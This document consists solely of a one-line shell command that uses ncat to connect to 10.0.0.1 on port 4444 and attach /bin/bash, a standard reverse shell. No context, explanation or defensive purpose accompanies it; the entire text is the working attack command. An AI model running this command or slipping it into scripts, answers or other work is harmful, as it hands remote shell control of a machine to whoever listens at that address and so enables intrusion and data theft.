ncat --exec /bin/bash 10.0.0.1 4444
